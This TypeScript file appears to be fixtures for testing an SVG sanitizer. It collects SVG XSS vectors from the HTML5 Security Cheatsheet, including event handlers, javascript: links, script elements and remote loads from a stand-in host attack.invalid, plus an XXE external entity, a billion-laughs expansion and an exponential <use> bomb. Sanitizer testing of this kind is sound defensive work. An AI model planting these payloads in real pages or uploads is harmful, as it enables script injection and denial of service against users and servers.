/**
 * Drawings that attack: the SVG entries of the HTML5 Security Cheatsheet (html5sec.org, repository cure53/H5SC,
 * vectors.txt; its number behind each name), rewritten for today's browsers, and four of XML's own. What runs calls
 * `attacked()`, what loads asks attack.invalid.
 */
const OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:ev="http://www.w3.org/2001/xml-events" width="100mm" height="80mm" viewBox="0 0 100 80">';
/** Every drawing has this, so that something is left to be seen. */
const HONEST = '<rect x="10" y="10" width="30" height="20" fill="#264"/>';
const drawing = (inside: string, open = OPEN): string => `${open}${HONEST}${inside}</svg>`;
const inBase64 = (text: string): string => Buffer.from(text).toString('base64');
const NESTED = '<svg xmlns="http://www.w3.org/2000/svg" onload="attacked()"/>';

export const SVG_ATTACKS: Readonly<Record<string, string>> = {
  'a handler on a group (11)': drawing('<g onload="attacked()"><circle r="4" onclick="attacked()"/></g>'),
  'a script (47)': drawing('<script>attacked()</script><script href="https://attack.invalid/a.js"/>'),
  'a script with entities (18)': drawing('<script>&#97;ttacked&#40;)</script>'),
  'a handler on the drawing (65)': drawing('', OPEN.replace('<svg', '<svg onload="attacked()"')),
  'a handler without quotes and with a slash (65)': drawing('', OPEN.replace('<svg', '<svg/onload=attacked() ')),
  'a link that is code (87)': drawing('<a xlink:href="javascript:attacked()" href="java\tscript:attacked()"><rect width="100" height="80" fill="#fff"/></a>'),
  'drawings inside that load (88)': drawing(`<image xlink:href="data:image/svg+xml,${encodeURIComponent(NESTED)}" width="9" height="9"/><image href="https://attack.invalid/b.png" width="9" height="9"/><animation xlink:href="javascript:attacked()"/>`),
  'foreign documents (88)': drawing('<foreignObject width="50" height="50"><body xmlns="http://www.w3.org/1999/xhtml"><iframe srcdoc="&lt;script>parent.attacked()&lt;/script>"/><img src="https://attack.invalid/c.png" onerror="attacked()"/></body></foreignObject>'),
  'handlers that are set (89)': drawing('<circle r="9"><set attributeName="onmouseover" to="attacked()"/><animate attributeName="onbegin" to="attacked()" onbegin="attacked()" dur="1s"/></circle>'),
  'handler elements (94, 127)': drawing('<handler ev:event="load">attacked()</handler><listener event="load" handler="#y" observer="x"/>'),
  'an image that is set (95, 132)': drawing(`<filter id="f"><feImage href="https://attack.invalid/d.svg"><set attributeName="href" to="data:image/svg+xml;base64,${inBase64(NESTED)}"/></feImage></filter><rect width="9" height="9" filter="url(#f)"/>`),
  'references out of a style (109)': drawing('<rect width="9" height="9" style="clip-path:url(https://attack.invalid/e.svg#a);fill:url(https://attack.invalid/f.svg#b);filter:url(\'https://attack.invalid/g.svg#c\')"/>'),
  'a marker from elsewhere (110)': drawing('<path d="M0 0h9" stroke="#000" style="marker-start:url(https://attack.invalid/h.svg#a)" marker-end="url(https://attack.invalid/i.svg#a)"/>'),
  'a filter that is a drawing (129)': drawing('<image width="9" height="9" style=\'filter:url("data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22><script>parent.attacked()</script></svg>")\'/>'),
  'a link that is animated into code (137)': drawing('<a href="?"><circle r="40"/><animate attributeName="href" begin="0" from="javascript:attacked()" to="&amp;"/></a>'),
  'a style that breaks out (128)': drawing('<style>&lt;img src=x onerror=attacked()>&lt;/style><b></style>'),
  'a style that loads (30)': drawing('<style>@import "https://attack.invalid/j.css"; @import url(https://attack.invalid/k.css); @font-face{font-family:y;src:url(https://attack.invalid/l.woff)} rect{font-family:y;cursor:url(https://attack.invalid/m.png),auto}</style><text y="40" font-family="y">y</text>'),
  'CDATA that hides a handler (39)': drawing('<![CDATA[><image xlink:href="]]><img src="xx:x" onerror="attacked()"//">'),
  'a style sheet of the file (17, 66, 125)': `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="data:,%3Cx/%3E"?><?xml-stylesheet href="https://attack.invalid/n.css"?>${drawing('')}`,
  'attributes given by its type (67)': `<!DOCTYPE svg [<!ATTLIST rect onload CDATA "attacked()">]>${drawing('')}`,
  'a use from elsewhere (88)': drawing(`<use href="https://attack.invalid/o.svg#a"/><use xlink:href="data:image/svg+xml;base64,${inBase64(NESTED)}#a"/>`),
  'an entity from elsewhere (64)': `<!DOCTYPE svg [<!ENTITY x SYSTEM "https://attack.invalid/p.txt">]>${drawing('<text>&x;</text>')}`,
  'entities of entities (XML: a billion laughs)': `<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>${drawing('<text>&c;</text>')}`,
  'a use of itself': drawing('<g id="a"><use href="#a"/></g>'),
};

/** 2^40 uses of one dot. */
export const SVG_BOMB = drawing(`<defs><path id="u0" d="M0 0h1v1z"/>${Array.from({ length: 40 }, (_, i) => `<g id="u${i + 1}"><use href="#u${i}"/><use href="#u${i}"/></g>`).join('')}</defs><use href="#u40"/>`);
